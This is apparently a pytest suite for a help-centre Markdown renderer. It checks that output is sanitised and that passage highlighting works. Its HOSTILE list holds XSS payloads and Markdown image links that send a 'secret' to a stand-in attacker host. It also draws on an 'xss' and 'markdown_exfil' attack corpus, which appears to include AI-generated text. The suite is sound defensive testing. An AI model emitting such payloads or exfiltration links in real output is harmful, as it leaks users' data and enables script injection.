"""Rendered Markdown is inert, and a passage is highlighted in place."""

import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from kb.rendering import render_article, render_markdown
from tests.attacks.corpus import Row, rows
from tests.pace import bounded

ALLOWED = {
    "a", "blockquote", "br", "code", "div", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "mark", "ol", "p", "pre",
    "s", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul", "html", "head", "body",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "id", "start", "class", "tabindex", "role", "aria-label"}

SAFE_HREF = r"(https?://|mailto:|#|\?|/[^/\\]|/$|[^:/\\]*([/?#]|$))"

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://collect.attacker.test/p?d=secret)",
    "![x][r]\n\n[r]: https://collect.attacker.test/p",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//collect.attacker.test/p)",
    "[x](/\\collect.attacker.test/p)",
    "[x](\\\\collect.attacker.test)",
    "<javascript:alert(1)>",
    '[x](https://a.test "onmouseover=alert(1)")',
    '# <svg/onload=alert(1)> {#x" onclick="alert(1)}',
    "| <b onclick=alert(1)> |\n|---|\n| <style>@import 'x'</style> |",
    "```<script>\nalert(1)\n```",
    "<form action=https://a.test><input autofocus onfocus=alert(1)>",
    '<a href="javascript:alert(1)" style="position:fixed">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "\ue000<script>\ue001",
]


def check_inert(html: str) -> None:
    for node in LexborHTMLParser(html).css("*"):
        assert node.tag in ALLOWED, node.html
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, node.html
            if name == "href":
                assert re.match(SAFE_HREF, value or "", re.IGNORECASE), value


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_renders_inert(text: str) -> None:
    check_inert(render_markdown(text))
    check_inert(render_article("Title", text, passage=(1, max(2, len(text) - 1))).html)


@pytest.mark.parametrize("row", [*rows("xss"), *rows("markdown_exfil")])
def test_published_attacks_render_inert(row: Row) -> None:
    text = row.raw.get("payload") or row.raw["model_text"]
    check_inert(render_markdown(text))
    check_inert(render_article("Title", text, passage=(0, len(text))).html)


NEEDED = {
    "# A": "<h2>A</h2>",
    "*b* **c** ~~d~~ `e`": "<em>b</em> <strong>c</strong> <s>d</s> <code>e</code>",
    "3. f": '<ol start="3">',
    "> g": "<blockquote>",
    "| h |\n|---|\n| i |": "<td>i</td>",
    "| | h |\n|---|---|\n| i | j |": "<td></td>\n<th>h</th>",  # a screen reader announces even an empty header
    "[j](https://x.test)": '<a href="https://x.test" rel="noopener nofollow">j</a>',
    "[k](/help/k/#l)": '<a href="/help/k/#l" rel="noopener nofollow">k</a>',
    "[m](mailto:m@x.test)": 'href="mailto:m@x.test"',
}


@pytest.mark.parametrize(("text", "expected"), NEEDED.items())
def test_articles_keep_their_formatting(text: str, expected: str) -> None:
    assert expected in render_markdown(text)


def test_headings_have_ids_and_form_the_contents() -> None:
    rendered = render_article("Returns", "# Returns\n\n## How {#how-to}\n\n## Costs\n\n## Costs\n\nx")
    assert [(h.id, h.text) for h in rendered.headings] == [("how-to", "How"), ("costs", "Costs"), ("costs-2", "Costs")]
    assert "Returns" not in rendered.html


BODY = """# Returns

You can return anything within **60 days** of delivery. Worn boots can be swapped.

## Costs

- Germany is free
- Switzerland costs [9.90](https://shop.example/fees?a=1)

| From | Costs |
|---|---|
| Norway | 12 |

```
listing of codes
```

The last paragraph.
"""


def marked(passage: str) -> str:
    start = BODY.index(passage)
    rendered = render_article("Returns", BODY, passage=(start, start + len(passage)))
    check_inert(rendered.html)
    assert rendered.is_marked
    tree = LexborHTMLParser(rendered.html)
    assert len(tree.css("mark#passage")) == 1
    return " ".join(node.text() for node in tree.css("mark"))


@pytest.mark.parametrize(
    ("passage", "expected"),
    [
        ("Worn boots can be swapped.", "Worn boots can be swapped."),
        ("within **60 days** of", "within 60 days of"),
        ("## Costs\n\n- Germany is free\n", "Costs Germany is free"),
        ("- Germany is free\n- Switz", "Germany is free Switz"),
        ("Switzerland costs [9.90](https://shop", "Switzerland costs 9.90"),
        ("| Norway | 12 |", "Norway 12"),
        ("of delivery. Worn boots can be swapped.\n\n## Costs", "of delivery. Worn boots can be swapped. Costs"),
    ],
)
def test_a_passage_is_highlighted_in_place(passage: str, expected: str) -> None:
    assert " ".join(marked(passage).split()) == expected


@pytest.mark.parametrize("passage", [(0, 0), (5, 3), (-4, 0), (10_000, 20_000)])
def test_an_invalid_passage_highlights_nothing(passage: tuple[int, int]) -> None:
    rendered = render_article("Returns", BODY, passage=passage)
    assert not rendered.is_marked
    assert "<mark" not in rendered.html


@pytest.mark.long
def test_a_heading_full_of_spaces_is_rendered_quickly() -> None:
    with bounded(20):  # a pattern that restarts at each space takes minutes here
        render_article("Title", "# a" + "\u00a0" * 10 + " \t" * 100_000 + "b\n\n# " + " x {#" * 50_000)


def test_an_explicit_id_is_removed_from_its_heading() -> None:
    assert render_article("Title", "## Costs  {#fees}").html.strip() == '<h2 id="fees">Costs</h2>'
    assert "{#no id}" in render_article("Title", "## Costs {#no id}").html
